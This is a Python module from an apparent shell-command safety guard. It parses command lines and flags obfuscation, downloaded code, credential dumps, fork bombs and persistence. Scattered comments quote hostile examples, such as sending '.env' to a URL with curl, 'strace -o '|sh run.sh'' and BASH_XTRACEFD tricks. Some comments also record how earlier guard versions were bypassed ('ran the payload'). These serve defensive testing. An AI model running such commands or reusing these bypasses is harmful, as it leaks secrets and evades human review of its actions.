"""Shell command analysis: what a command line would do, in categories the policy rules name.

``analyze`` first normalises the line the way bash reads it (``safety.shellview``: NUL dropped,
backslash-newline joined, ``${IFS}`` split; control and invisible bytes refused), parses it with
tree-sitter-bash (``safety.shellparse``), unwraps ``sudo``/``env``/``xargs``/``timeout``/``find -exec``,
re-parses ``bash -c``/``eval``/``trap``/``alias`` strings, heredocs fed to a shell and workspace scripts
that a command runs, and classifies every simple command and pipeline. Program-specific knowledge
lives beside it: ``effects`` (what a program does to files), ``projects`` (the files project runners run:
package.json, conftest.py, CMakeLists.txt, tox.ini), ``pycode``/``jscode`` (the commands interpreter code runs and the
workspace modules it loads), ``programs`` (pushes, installs, cluster and cloud secrets, key hunts, miners, detached jobs),
``system`` (services, history, users, mounts), ``flows`` (network tools and pipelines) and ``loopglob`` (loops over files).
Paths are judged against the workspace, which is the shell's working directory: ``rm -rf ./build`` is
fine, ``rm -r /var/log/logs`` is not. ``review.PolicyCheck`` turns the findings into a verdict.
"""

from __future__ import annotations

import fnmatch
import os
import posixpath
import re
import shlex
from dataclasses import dataclass, field
from typing import Any

from macrohard.safety import (
    codewrites,
    curlargs,
    devtools,
    effects,
    envvars,
    flows,
    jscode,
    launchers,
    lazyre,
    lookup,
    native,
    optvalues,
    programs,
    projects,
    pycode,
    runners,
    scripts,
    session,
    spliced,
    toolwrites,
)
from macrohard.safety import rules_data as R
from macrohard.safety.argv import argv_alias, canonical_program, effective_program, is_dynamic, skip_options, unwrap
from macrohard.safety.invocation import Invocation, interpreter_invocation, shell_invocation
from macrohard.safety.linecwd import LOGICAL_PWD, failed_cds, logical_join, logical_pwd, moves_unseen
from macrohard.safety.loopglob import LoopGlobs, option_names, passing
from macrohard.safety.paths import PathJudge
from macrohard.safety.regular import watching
from macrohard.safety.rewrites import note as note_rewrites
from macrohard.safety.rewrites import redirected
from macrohard.safety.shebang import interpreter, plain_shell
from macrohard.safety.shellparse import SimpleCommand, parse
from macrohard.safety.shellstate import (
    add_hook,
    array_arguments,
    called,
    define,
    replay,
    set_arguments,
    shell_arguments,
    with_arguments,
)
from macrohard.safety.shellvalues import Values, data_script, judge_line, mark_data, positional_args, record_line
from macrohard.safety.shellview import expand_braces, look_alike, shell_view
from macrohard.safety.spliced import xargs as xargs_words

MAX_DEPTH = 4


# the names judged as a program of their own kind before the file is read (a shell, an interpreter, a wrapper...):
# a workspace file so named is read as itself too (rt48)
NAMED = (R.SHELLS | R.INTERPRETERS | runners.MORE_INTERPRETERS | R.WRAPPERS | R.PRIVILEGE | R.TERMINALS
         | frozenset({"env", "eval", "cmake", "source", "."}))


@dataclass
class Analysis:
    """What one command line does."""

    findings: dict[str, str] = field(default_factory=dict)  # category -> first detail
    programs: set[str] = field(default_factory=set)
    paths: list[str] = field(default_factory=list)
    hosts: list[str] = field(default_factory=list)
    firm: list[str] = field(default_factory=list)  # `dynamic` findings that stand where make drops the soft ones

    # rt51: code the guard read that runs a command or code built when it runs (a tcl command renamed, `exec()` of
    # computed text, awk's `system(c …)`, `$c` as the program): flow control takes it for a possible send
    runs_unknown: list[str] = field(default_factory=list)

    def add(self, category: str, detail: str) -> None:
        self.findings.setdefault(category, detail)

    def built_when_run(self, detail: str) -> None:
        """``dynamic``: a command or code the line runs is built when it runs (what it does is not known)."""
        self.add("dynamic", detail)
        self.runs_unknown.append(detail)


class Analyzer:
    def __init__(self, paths: PathJudge, result: Analysis) -> None:
        self.paths = paths
        self.r = result
        self.new_remotes: set[str] = set()  # git remotes added or re-pointed earlier on the line
        self.downloads: set[str] = set()  # files a downloader wrote earlier on the line
        self.written: dict[str, str | None] = {}  # files written earlier on the line -> their text, if known
        self.unmodelled_writes = False  # something earlier on the line may write files we cannot see (python -c, unzip)
        self.jobs = self.detached = 0  # processes earlier steps left running: they may change a script after it is read
        self.path_dirs: list[str] = []  # directories the run put on PATH, most recent first (safety.lookup)
        self.unknown_writes = False  # code earlier on the line wrote files the guard cannot name (safety.pycode)
        self.ld_dirs = ""  # LD_LIBRARY_PATH set to a workspace folder on the line (safety.envvars, safety.lookup)
        self.project_unknown: bool | None = None  # unknown_writes as a project runner started (safety.projects)
        self.rewriter = "code earlier on the line writes files whose names are only known when it runs"  # why
        self.py_dirs: list[str] = []  # directories the run put on PYTHONPATH (safety.envvars, read by safety.pycode)
        self.stdin_feeds: list[SimpleCommand] = []  # shells and interpreters with an input, whose code is being judged
        self.functions: dict[str, str] = {}  # shell functions the session defined (safety.shellstate)
        self.hooks: list[str] = []  # traps and handlers that run at later commands
        self.expanding: set[str] = set()  # functions whose bodies are being judged where they are called
        self.line_vars: dict[str, str] = {}  # the variables the line being judged sets
        self.session_vars: dict[str, str] = {}  # literal values earlier steps gave variables (safety.session)
        self.test_runs: set[str] = set()  # directories whose test run code here started (safety.devtools)
        self.exact: dict[str, frozenset[str]] = {}  # the values they were proved to hold (safety.session.Exact)
        self.values = Values()  # what the session's variables may hold, read as numbers (safety.arith)
        self.session_names: frozenset[str] = frozenset()  # the names earlier steps set, as this line starts
        self.in_job = False  # judging a command that runs as a job left running after the step (`… &`)
        self.job_depth = 0  # the nesting depth of the command being judged (a job in `sh -c '…'` is not this shell's)
        self.plain_line = False  # the line has no subshell: a `wait` on it waits for every job it started
        # what jobs on this line run (why, depth), asked about unless a plain `wait` at the top ends them
        self.job_scripts: list[tuple[str, int]] = []
        # a function's body walked where it is defined, or judged again without the call's arguments beside a reading
        # with them (safety.shellstate.called): words only known when it runs are judged where the call gives them
        self.defining = False
        self.args_known = 0

    # -- entry ---------------------------------------------------------------------------------

    def line(self, command: str, depth: int = 0, cwd: str | None = None) -> None:
        # the session's proved values are this shell's: a nested shell, script or body is judged without them
        exact, self.exact = self.exact, self.exact if depth == 0 else {}
        try:
            self._line(command, depth, cwd)
        finally:
            self.exact = exact

    def _line(self, command: str, depth: int = 0, cwd: str | None = None) -> None:
        if depth > MAX_DEPTH:
            self.r.add("obfuscation", "shell code nested more than four levels deep")
            return
        if command.startswith(("#!", "\ufeff")) or any(ch in command for ch in R.INVISIBLE_CHARS):
            self.r.add("obfuscation", "invisible or control characters in the command")
        view = shell_view(command)  # judge what bash will read: NUL dropped, \<newline> joined, ${IFS} split
        for problem in view.problems:
            self.r.add("obfuscation", f"the command {problem}")
        if view.text != command and "IFS" in command and "IFS" not in view.text:
            self.r.add("obfuscation", "hides spaces with ${IFS}")
        command = view.text
        if depth:  # rt56: shell code the line runs that the guard reads (a recipe, an npm script, `eval`, `sh -c`)
            self.__dict__.setdefault("line_code", []).append(command[:32768])  # (safety.flows.code_data)
        if _BASH_TABLES.search(command):  # guard30: `read 'BASH_CMDS[ls]'`, `declare -n R=BASH_CMDS`, `BASH_CMDS[ls]=`
            self.r.add("obfuscation", "the line names bash's command hash or alias table (BASH_CMDS, BASH_ALIASES): "
                                      "setting it makes a command name run another program")
        unquoted = re.sub(r"\$?['\"]|\\", "", command)
        if _XTRACE_FD.search(unquoted):  # guard36: `exec 3> s.sh; BASH_XTRACEFD=3; PS4=' sh run.sh #'`, then `set -x; sh s.sh`
            self.r.add("obfuscation", XTRACE_FD)
        if _EXTDEBUG_LOOK.fullmatch(command.strip()):  # on, `declare -F` (where a function is defined), off again
            self.__dict__["extdebug_off"] = True
        elif _EXTDEBUG.search(unquoted):
            self.r.add("obfuscation", EXTDEBUG)
        if (m := _EXEC_STDIN.search(command)) and not m.group(1).strip():
            self.r.add("dynamic", "exec redirects the shell's own input: a later shell or interpreter on the line with no "
                                  "script reads its code from there; name the script instead")
        lookup.seen_text(self, command)  # a saved copy of PATH this code may change is one no more
        lookup.forget_home(self, command)  # `~` is the workspace only while nothing set HOME
        for reading in view.alternatives:
            self.line(reading, depth + 1, cwd)
        if "set" in command and (reading := set_arguments(command)) is not None:  # `set -- ARGS; curl "$@"`
            self.line(reading, depth + 1, cwd)
        if "=(" in command and (reading := array_arguments(command)) is not None:  # `a=(ARGS); curl "${a[@]}"`
            self.line(reading, depth + 1, cwd)
        ifs = {"IFS": self.session_vars["IFS"]} if depth == 0 and self.session_vars.get("IFS") else None
        parsed = parse(command, ifs, loops=LoopGlobs(self.paths, cwd, self.functions, self.r.findings, self.values)
                       if depth == 0 and "for" in command and not self.hooks and not self.jobs else None,
                       start=cwd or (self.paths.workspaces[0] if self.paths.workspaces else None))
        if depth == 0:
            self.__dict__["line_code"] = []  # the code the line runs that the guard reads (safety.flows.line_data)
            self.__dict__["top_line"] = command  # (safety.pymodules: a line that may set a file's time)
            self.__dict__["top_cwd"] = cwd  # (safety.flows.named_records: where the line's file names are)
            flows.remember_words(self, command, parsed.commands)  # (and the words bash reads there: rt56)
            # a `( … )` subshell's jobs are not the shell's: its `wait` does not end them (`$(`, `<(`, `>(` are fine)
            self.plain_line = not re.search(r"(?<![$<>])\(", command)
            # what a function called on this line may read (safety.shellstate): the line's values over the session's
            self.line_vars = {**self.session_vars, **parsed.assigned}
            session.update(self.session_vars, parsed.assigned)
            if self.paths.home is None and self.paths.workspaces:  # HOME set on the line, its value not literal
                self.session_vars.setdefault("HOME", lookup.UNKNOWN_HOME)
                self.line_vars.setdefault("HOME", lookup.UNKNOWN_HOME)
        lookup.quoted_tilde(self, parsed)  # and `"~/x"` is no home
        record_line(self, parsed.arith, depth, parsed.functions)
        option_names(self, parsed.globs, cwd)  # `sed 's/a/b/' *.txt` and a file named `-e1e cmd #.txt`
        if parsed.error:
            self.r.add("unparseable", f"cannot parse the command as bash: {command[:120]!r}")
        for name, body in parsed.functions.items():
            if re.search(rf"(^|[^\w]){re.escape(name)}\s*\|\s*{re.escape(name)}", body) or "&" in body and name in body:
                self.r.add("destructive", f"function {name!r} calls itself in the background (a fork bomb)")
        define(self, parsed.functions)
        for name, value in parsed.assignments:
            self.assignment(name, value, depth, cwd, parsed.assigned)
        unsure = failed_cds(self, parsed.cd_unsure, parsed.commands, cwd)
        moved = False  # an earlier command moved the shell without a `cd` the walk followed
        for cmd in parsed.commands:
            for folder in unsure:  # a `cd` that fails leaves bash where it was: where the guard cannot follow
                if cmd.cwd == folder or (cmd.cwd or "").startswith(folder + "/"):
                    cmd.cwd = "$CD_FAILED/" + cmd.cwd
            if moved and not (cmd.cwd or "").startswith("$"):
                cmd.cwd = "$MOVED/" + (cmd.cwd or ".")
            if cmd.cwd is not None and cwd is not None and not cmd.cwd.startswith(("/", "~")):
                cmd.cwd = logical_join(cwd, cmd.cwd)
            elif cmd.cwd is None:
                cmd.cwd = cwd
            if cmd.cwd and not cmd.cwd.startswith("$") and self.paths.resolve(cmd.cwd, None).startswith(_PROC_DIRS):
                # guard31: `cd /proc/self/cwd && npm test`: /proc/self/cwd on the host is the guard's folder, so
                # package.json was read there while npm, in the sandbox, ran the workspace's
                cmd.cwd = "$PROC/" + cmd.cwd
            defining, self.defining = self.defining, id(cmd) in parsed.in_bodies
            try:
                self.simple(cmd, depth)
            finally:
                self.defining = defining
            moved = moved or moves_unseen(self, cmd)
        for stages in parsed.pipelines:
            flows.pipeline(self, stages)
        judge_line(self, parsed.arith, depth)  # after the code the line runs gave its names values
        if depth == 0 and flows.line_data(self, command):  # rt54: what the line took from a data file, kept for later
            mark_data(self, parsed.arith, [p for p in self.written if not any(c in p for c in "*?[$")])  # steps
            flows.mark_descriptors(self, command)  # rt56: `exec 3< clients`, then `read -u 3 T` a step later
            flows.settings_written(self, command)  # rt56: `printf 'index-url = …%s' "$(sed …)" > uv.toml`
        if depth == 0:
            logical_pwd(self, parsed.end_cwd, cwd)  # after the links the line makes
            for why, _ in dict.fromkeys(self.job_scripts):  # jobs no `wait` on the line ends (safety.scripts.job)
                self.r.add("dynamic", why)
            self.job_scripts.clear()

    def assignment(self, name: str, value: str, depth: int, cwd: str | None,
                   parsed_assigned: dict[str, str] | None = None) -> None:
        """One variable set on the line (``X=1``, ``export X=1``, ``env X=1 cmd``): ``safety.envvars.assign``."""
        envvars.assign(self, name, value, depth, cwd, parsed_assigned)

    # -- one simple command ----------------------------------------------------------------------

    def simple(self, cmd: SimpleCommand, depth: int) -> None:
        # a job left running (`cmd &`, and what it runs, nested lines included) reads its scripts after this review
        # (safety.scripts.read_script: guard23)
        before, at = self.in_job, self.job_depth
        self.in_job, self.job_depth = before or cmd.background, depth
        try:
            self._simple(cmd, depth)
        finally:
            self.in_job, self.job_depth = before, at

    def _simple(self, cmd: SimpleCommand, depth: int) -> None:
        passing(self, cmd.loop)  # a loop's second pass reads what its first wrote as unknown
        argv = [w for a in cmd.argv for w in expand_braces(a)] if any("{" in a for a in cmd.argv) else list(cmd.argv)
        redirected(self, cmd, argv)
        lookup.literal_tilde(self, cmd, argv)  # `sh "~/x.sh"` runs ./~/x.sh where a folder named ~ is
        if not argv:
            return
        if cmd.escaped_name and "IFS" in argv[0]:
            self.r.add("obfuscation", "hides spaces with ${IFS}")
            self.line(re.sub(r"\$\{?IFS\}?", " ", argv[0]) + " " + " ".join(argv[1:]), depth + 1, cmd.cwd)
            return
        if cmd.escaped_name:
            self.r.add("obfuscation", f"writes the command name {argv[0]!r} in escapes or pieces")
        if cmd.dynamic_name:
            if cmd.nested_programs & R.DECODERS:
                self.r.add("obfuscation", "runs a command decoded at run time")
            elif cmd.nested_programs & R.DOWNLOADERS:
                self.r.add("remote_code", "runs a command downloaded at run time")
            else:  # firm: a make recipe's `eval "$$CMD"` runs what the session exported (the lead, wave 16)
                self.r.built_when_run(why := f"the program {argv[0]!r} is only known when the command runs")
                self.r.firm.append(why)
            return
        self.argv(argv, cmd, depth)
        programs.detached(self, cmd)

    def argv(self, argv: list[str], cmd: SimpleCommand, depth: int) -> None:
        try:
            self._argv(argv, cmd, depth)
        finally:
            first = posixpath.basename(effective_program(argv)) if argv else ""
            # `python3 -m venv .venv && . .venv/bin/activate` runs what a module wrote: a trusted tool's output
            if first in R.SHELLS | R.INTERPRETERS | R.UNPACKERS | {"eval"} and "-m" not in argv:
                self.unmodelled_writes = True
            note_rewrites(self, argv, cmd.cwd)  # `node w.js && bash run.sh`: w.js may rewrite run.sh first

    def _argv(self, argv: list[str], cmd: SimpleCommand, depth: int) -> None:
        wrapped = False
        while argv:
            if wrapped and is_dynamic(argv[0]):  # `env $(cat v.env) bash`: NAME=VALUE pairs or a program only known
                self.r.add("dynamic", f"runs {argv[0][:60]} through {cmd.argv[0]}: a program or setting only known "
                                      "when it runs")  # when it runs (guard20: BASH_ENV came from a file)
                return
            wrapped = True
            if (alias := argv_alias(argv)) is not None:
                if alias[:1] == ["perf-run"]:
                    self.r.add("dynamic", "perf runs a command among its options; put it after `--`")
                    return
                argv = alias
                if not argv:
                    return
            if "/" in argv[0] and not argv[0].startswith(("/usr/", "/bin/", "/sbin/")) and (
                    real_program := native.system_program(self, argv[0], cmd.cwd)) is not None:
                argv = [*native.as_run(real_program, argv[0]), *argv[1:]]  # rt47: `./fetch …` after `ln -s
                continue  # /usr/bin/curl fetch` is curl; rt48: before its name is read (`tools/sh`, a link to curl,
                # is not sh), whoever made it
            prog = canonical_program(posixpath.basename(argv[0]))
            self.r.programs.add(prog)
            # rt50: `ls ARGS` running ./bin/ls, `exec curl "$@"`: the file found on PATH gets the arguments
            on_path = lookup.resolve_program(self, argv[0], cmd.cwd, depth, args=argv[1:])
            if on_path is not None:  # `ls` after the
                argv = [*native.as_run(on_path, argv[0]), *argv[1:]]  # run put ./bin on PATH; rt47: a link or copy
                # there of a system program
                continue
            positional_args(self, argv)  # $1 of a function, a script or `bash -c` the line runs
            called(self, argv[0], cmd.cwd, depth, cmd.inlined, argv[1:])  # `f` after `f() { bash run.sh; }`: its body runs
            if prog in ("curl", "wget"):  # rt52: `curl -sT.env URL` is `curl -s -T .env URL`; the lead (fifty-second
                argv = [argv[0], *curlargs.for_program(prog, argv[1:])]  # wave): `--data-bin` is `--data-binary`
            rest = argv[1:]
            if prog in NAMED and "/" in argv[0] and not argv[0].startswith(("/usr/", "/bin/", "/sbin/")) and \
                    native.own_file(self, argv[0], cmd.cwd):  # rt48: `tools/sh job`, tools/sh a script of the
                self.own_program(argv, cmd, depth)  # workspace: what runs is that file; its name is judged too
            programs.miner(self, prog, rest)
            if (alike := look_alike(prog)) is not None:
                self.r.add("obfuscation", f"the program name {prog!r} is written with look-alike letters ({alike!r})")
            if any(ch in argv[0] for ch in "*?[") and not is_dynamic(argv[0]):
                self.r.add("obfuscation", f"the program {argv[0]!r} is a glob pattern: bash picks it when it runs")
            if self.paths.resolve(argv[0], cmd.cwd) in self.downloads or (
                    prog in R.SHELLS | R.INTERPRETERS | {"source", "."} and rest
                    and self.paths.resolve(rest[-1] if prog in ("source", ".") else next(
                        (a for a in rest if not a.startswith("-")), ""), cmd.cwd) in self.downloads):
                self.r.add("remote_code", f"runs {argv[-1] if prog in R.SHELLS | R.INTERPRETERS else argv[0]}, "
                                          "downloaded earlier in the same command")
                return
            for word in rest:
                self.scan_word(word, cmd.cwd, prog)
            optvalues.judge(self, prog, rest, cmd, depth)  # `--renderer-cmd-prefix='sh x'`: a value that is a command
            spliced.unknown(self, prog, rest, cmd, depth)  # `tar … $(cat opts)`: words that may be options that run code
            if prog in R.PRIVILEGE:
                self.r.add("privilege", f"{prog} runs a command with other privileges")
                if prog == "su":
                    if "-c" in rest:
                        self.line(rest[rest.index("-c") + 1] if rest.index("-c") + 1 < len(rest) else "",
                                  depth + 1, cmd.cwd)
                    return
                argv = skip_options(rest, R.PRIVILEGE_ARG_OPTS)
                continue
            if prog in R.INTERPRETERS and rest[:2] in (["-m", "pip"], ["-m", "pipx"]):
                from macrohard.safety import pymodules  # a workspace pip/ shadows pip under -m (guard20)

                pymodules.run_module(self, prog, rest[1], depth, cmd.cwd)
                argv = [rest[1], *rest[2:]]
                continue
            if prog.startswith("python") and "-m" in rest and (i := rest.index("-m")) + 1 < len(rest) and \
                    rest[i + 1] in projects.MODULES and all(a.startswith("-") for a in rest[:i]):
                self.invocation(prog, rest, cmd, depth)  # `python3 -m pytest`: pytest runs the project's tests
                projects.judge(self, rest[i + 1], rest[i + 2:], cmd, depth)
                return
            if prog == "cmake" and (inner := runners.cmake_tool(self, rest, cmd, depth)) is not None:
                argv = inner  # `cmake -E env|time|chdir … CMD` runs CMD (guard18)
                continue
            if prog == "env":  # env X=1 cmd: the same as X=1 cmd
                for word in rest:
                    if "=" in word and not word.startswith("-") and re.fullmatch(
                            r"[A-Za-z_]\w*", word.split("=")[0]):
                        self.assignment(*word.split("=", 1), depth, cmd.cwd)
                    elif fn := re.match(r"BASH_FUNC_([^=%]+)%%=\s*\(\)\s*", word):  # a function bash imports,
                        define(self, {fn.group(1): word[fn.end():]})  # called anywhere in the program env starts
                        add_hook(self, word[fn.end():])
            if prog == "env" and runners.env_runs(self, rest, cmd, depth):  # env -S 'cmd args' …, env -C DIR …
                return
            if prog in R.WRAPPERS:
                cmd.wrappers.add(prog)
                if prog == "strace":  # `strace -o '|sh run.sh' true` pipes its output into a command (guard24: ran)
                    for i, a in enumerate(rest):
                        value = rest[i + 1] if a == "-o" and i + 1 < len(rest) else a[9:] if a.startswith(
                            "--output=") else a[2:] if a.startswith("-o") and len(a) > 2 else ""
                        if value[:1] in ("|", "!"):
                            self.line(value[1:], depth + 1, cmd.cwd)
                if prog in ("flock", "parallel"):  # flock F -c CMD, parallel ::: CMD
                    runners.judge(self, prog, rest, cmd, depth)
                if prog in ("watch", "taskset"):  # watch joins its words for sh -c; taskset MASK CMD
                    runners.judge(self, prog, rest, cmd, depth)
                    return
                argv = unwrap(prog, rest)
                if prog == "parallel":  # `parallel sh ::: run.sh` ran run.sh (guard24: judged as sh's script ":::")
                    argv = runners.parallel_inputs(self, rest, argv, cmd, depth)
                if prog in ("xargs", "parallel") and argv and posixpath.basename(argv[0]) in R.DELETERS | {"shred"}:
                    self.r.add("dynamic", f"{prog} {argv[0]} deletes paths only known when the command runs")
                if prog == "env" and not argv:
                    self.r.add("credential", "env dumps the environment, which can hold secrets")
                if prog in ("xargs", "parallel") and argv:
                    xargs_words(self, prog, argv, cmd)
                if prog == "xargs" and argv and (text := [t for op, t in cmd.redirects if op == "<<<"]) and \
                        not cmd.expanded & set(text):
                    spliced.fed(self, rest, text[0], cmd.cwd, depth)
                continue
            if prog == "eval":
                if cmd.nested_programs & R.DECODERS:
                    self.r.add("obfuscation", f"{prog} runs text decoded at run time")
                if cmd.nested_programs & R.DOWNLOADERS:
                    self.r.add("remote_code", f"{prog} runs code downloaded at run time")
                self.line(" ".join(rest), depth + 1, cmd.cwd)
                return
            if prog in R.TERMINALS and ("-e" in rest or "--" in rest or "-x" in rest):
                flag = next(f for f in ("-e", "--", "-x") if f in rest)
                inner = rest[rest.index(flag) + 1:]
                self.line(inner[0] if len(inner) == 1 else " ".join(inner), depth + 1, cmd.cwd)
                return
            if prog in R.SHELLS or prog in ("source", ".") or prog in R.INTERPRETERS or prog in runners.MORE_INTERPRETERS:
                self.invocation(prog, rest, cmd, depth)
                return
            if "/" in argv[0] and not argv[0].startswith(("/usr/", "/bin/", "/sbin/")):
                self.own_program(argv, cmd, depth)  # ./run.sh: the workspace's own scripts
                real = posixpath.basename(os.path.realpath(self.paths.resolve(argv[0], cmd.cwd)))
                if real != prog and launchers.LOADER.fullmatch(real):  # `ln -s /lib64/ld-linux… ldr; ./ldr …`
                    prog = real
            self.program(prog, rest, cmd, depth)
            return

    def own_program(self, argv: list[str], cmd: SimpleCommand, depth: int) -> None:
        """A path program the line runs, read as the file it is (a script's lines, a compiled program's table)."""
        before = self.__dict__.pop("argv_writes", False)
        self.script(argv[0], cmd.cwd, depth, args=argv[1:])
        if self.__dict__.pop("argv_writes", False):  # guard40: a program of the run's, `./w .bashrc`
            codewrites.arguments(self, posixpath.basename(argv[0]), argv[1:], cmd.cwd)
        if before:
            self.__dict__["argv_writes"] = True

    def script(self, path: str, cwd: str | None, depth: int, explicit: bool = False, args: list[str] = (),
               shell: bool = False) -> None:
        """A script a command runs: as a program (``safety.shebang``), or read by a shell (``shell``: ``#!`` no more)."""
        text = scripts.read_script(self, path, cwd, explicit)
        if text is None:
            return
        first, _, body = text.partition("\n")
        found = None if shell else interpreter(first)
        if found is not None and "/" not in found[0]:  # `#!sh`: the kernel takes a bare name as ./sh, never PATH's
            found = ("./" + found[0], found[1])
        # `#!/usr/bin/make -f`: `make -f ./x ARGS`; rt48: `#!tools/sh` runs the file tools/sh, whatever it is
        if found is not None and (not plain_shell(*found) or not found[0].startswith(("/usr/", "/bin/", "/sbin/"))):
            self.line(shlex.join([found[0], *([found[1]] if found[1] else []), path, *args]), depth + 1, cwd)
            return
        if scripts.writes_itself(text, path):
            self.r.add("dynamic", f"{path} writes to itself while the shell reads it: bash reads a script as it runs, "
                                  "so what it adds runs unreviewed; write the file in one step and run it in the next")
        self.line(body if first.startswith("#!") else text, depth + 1, cwd)
        if not self.defining:
            data_script(self, path, cwd, text)
        self.__dict__.setdefault("line_code", []).append(text[:32768])  # rt56: flows.built_names, line_data
        if (reading := with_arguments(body if first.startswith("#!") else text, list(args))) is not None:
            self.line(reading, depth + 1, cwd)  # rt50: `exec curl "$@"` in ./bin/ls, run as `ls --data-binary @.env URL`

    def program(self, prog: str, args: list[str], cmd: SimpleCommand, depth: int) -> None:
        """Judge one program by its name and arguments (``safety.effects``)."""
        effects.judge(self, prog, args, cmd, depth)

    def invocation(self, prog: str, rest: list[str], cmd: SimpleCommand, depth: int) -> None:
        """A shell, ``source`` or an interpreter: judge every piece of code it runs (``safety.invocation``)."""
        shell = prog not in R.INTERPRETERS and prog not in runners.MORE_INTERPRETERS
        if prog in ("source", "."):
            inv = Invocation(script=rest[0]) if rest else Invocation()
            if rest:
                lookup.activated(self, rest[0], cmd.cwd)
                lookup.resolve_program(self, rest[0], cmd.cwd, depth, shell=True)
        else:
            inv = shell_invocation(rest) if shell else interpreter_invocation(prog, rest)
            if prog == "bash" and inv.script and "/" not in inv.script and not inv.codes:
                # guard30: bash looks a script's name up on PATH when the folder has none (`PATH=d:$PATH bash t.sh`)
                lookup.resolve_program(self, inv.script, cmd.cwd, depth, shell=True)
        from_text = inv.codes or inv.stdin or inv.code_missing or any(
            p.startswith("<(") or p.startswith("/dev/") for p in [inv.script, *inv.files])
        if from_text and cmd.nested_programs & R.DOWNLOADERS:
            self.r.add("remote_code", f"{prog} runs code downloaded at run time")
        if from_text and cmd.nested_programs & R.DECODERS:
            self.r.add("obfuscation", f"{prog} runs code decoded at run time")
        if prog == "jshell":  # its start-up scripts run first: `--startup F`, `--startup=F`, `-startup F`
            for i, a in enumerate(rest):
                name = a.split("=", 1)[1] if a.startswith("--startup=") else rest[i + 1] if a in (
                    "--startup", "-startup") and i + 1 < len(rest) else None
                if name and name not in ("DEFAULT", "PRINTING", "JAVASE", "TOOLING"):
                    text = scripts.read_script(self, name, cmd.cwd, True)
                    if text is not None:
                        self.code(prog, text, depth + 1, cmd.cwd)
        if jscode.family(prog) == "tcl" and rest[:1] == ["-encoding"] and (
                len(rest) < 2 or rest[1].lower() not in jscode.TCL_READ_ENCODINGS):  # rt50: `-encoding ebcdic`
            self.r.built_when_run(f"{prog} reads its script in an encoding the guard does not read "
                                  f"({' '.join(rest[:2])[:40]})")
        pushed = scripts.has_input(cmd)
        if pushed:
            self.stdin_feeds.append(cmd)
        try:
            args = shell_arguments(prog, rest, inv) if shell or prog in ("source", ".") else []
            for code in inv.codes if args else ():  # rt50: `bash -c 'curl "$@"' x --data-binary @.env URL`
                if (reading := with_arguments(code, args)) is not None:
                    self.line(reading, depth + 1, cmd.cwd)
            scripts.run_code(self, prog, inv, cmd, depth, shell, args)
        finally:
            if pushed:
                self.stdin_feeds.pop()

    def code(self, prog: str, code: str, depth: int, cwd: str | None, where: str | None = None,
             seen: set[str] | None = None, here: str | None = None) -> None:
        """Interpreter code (``-c``/``-e``, a heredoc, a workspace script): the patterns it matches, and the
        commands, built code and workspace modules it runs (``pycode``, ``jscode``). ``where``: the directory
        its imports look in first (a script's own), ``here``: the directory of this file of code."""
        # code that forks (os.fork, perl's fork, a detached child) runs its commands in a process that outlives the
        # step, as a job does: what they run is judged as a job's (guard26: `if os.fork() == 0: sleep; os.system("sh
        # go.sh")`, then `cp run.sh go.sh` approved, ran the payload); a depth below the line's: the shell's `wait`
        # does not wait for it
        before, at = self.in_job, self.job_depth
        if R.CODE_FORKS.search(code):
            self.in_job, self.job_depth = True, depth + 1
        self.__dict__.setdefault("line_code", []).append(code[:32768])  # rt56: flows.built_names, line_data
        try:
            self._code(prog, code, depth, cwd, where, seen, here)
        finally:
            self.in_job, self.job_depth = before, at

    def _code(self, prog: str, code: str, depth: int, cwd: str | None, where: str | None, seen: set[str] | None,
              here: str | None) -> None:
        if prog.startswith(("python", "pypy")):
            from macrohard.safety import pymodules

            extra = pymodules.sys_path(self, prog, code, cwd) if re.search(r"sys|site|zipimport", code) else []
            dirs, self.py_dirs = self.py_dirs, [*extra, *self.py_dirs] if extra else self.py_dirs
            try:
                pycode.judge(self, prog, code, depth, cwd, where or cwd, seen, here or where or cwd)
            finally:
                self.py_dirs = dirs
            devtools.python_runs_tests(self, code, depth, cwd)  # `pytest.main()` imports the workspace's tests
            # shutil.unpack_archive, extractall (guard23), into a folder named through the home (guard40)
            toolwrites.python_code(self, codewrites.fold(code), cwd)
        elif prog == "jshell":  # guard37: Java snippets (`new ProcessBuilder("sh", "run.sh").start()` ran unread)
            from macrohard.safety import jvm, native

            if m := jvm._SOURCE_RISK.search(jvm._UNICODE_ESCAPE.sub(lambda u: chr(int(u.group(1), 16)), code)):
                native.flag(self, f"jshell runs code that can start programs, load native code or reach classes by "
                                  f"name ({m.group(0)[:30]}); the guard does not follow that")
            for m in re.finditer(r"^\s*/(?:open|o|op|ope)\s+(\S+)", code, re.M):  # `/open s2.jsh`: its snippets run
                seen = seen if seen is not None else set()
                if m.group(1) in ("DEFAULT", "PRINTING", "JAVASE", "TOOLING") or m.group(1) in seen:
                    continue
                seen.add(m.group(1))
                text = scripts.read_script(self, m.group(1), cwd, True)
                if text is not None:
                    self.code(prog, text, depth + 1, cwd, seen=seen)
        else:
            jscode.judge(self, prog, code, depth, cwd, here or where, seen)
        for pattern, category, why in R.CODE_PATTERNS:
            if pattern.search(code):
                self.r.add(category, f"{prog} code {why}")
        if m := R.EXEC_INPUT.search(code):
            self.r.add("dynamic", f"{prog} code runs code it reads when it runs: {m.group(0)[:60]}")
        for m in R.CODE_SHELL_CALL.finditer(code):
            self.line(m.group("cmd"), depth + 1, cwd)
        runners.code_calls(self, code, depth, cwd)
        # guard40: every path code that writes spells, the home as the code reads it written as ~ and joins folded
        # (guard20: open('.bash'+'rc', 'a'); perl's two-argument open names the file after its mode: open(F,
        # ">.profile"), guard24); an environment variable the session gave a literal value, read by the code
        # (guard21: `export T=.bashrc`, then open(os.environ['T'], 'a')) stands as that value
        codewrites.judge(self, prog, session.environ(code, self.line_vars), cwd)
        if R.WRITE_CALL.search(code):
            code = session.environ(code, self.line_vars)
            folded = R.JOINED_LITERALS.sub(lambda m: m.group(1) + m.group(2) + m.group(4) + m.group(1), code)
            for m in R.STRING_LITERAL.finditer(folded):
                lit = m.group(2)
                if lit.startswith((".", "~", "/")) and not lit.endswith(".pth"):
                    continue
                # a .pth or sitecustomize.py under a folder only known when it runs (guard24: shutil.copy(…,
                # site.getsitepackages()[0] + '/a.pth') by a venv's python ran at its next start)
                elif re.search(r"(?:^|/)(?:[^/]*\.pth|(?:site|user)customize\.py)$", lit) and \
                        "/site-packages/" not in self.paths.resolve(lit, cwd):
                    self.r.add("persistence", f"{prog} code writes {lit[:60]} into a folder only known when "
                                              "it runs (Python runs a .pth's import lines and sitecustomize at "
                                              "every start)")
        for m in R.STRING_LITERAL.finditer(code):
            self.scan_word(m.group(2), cwd)
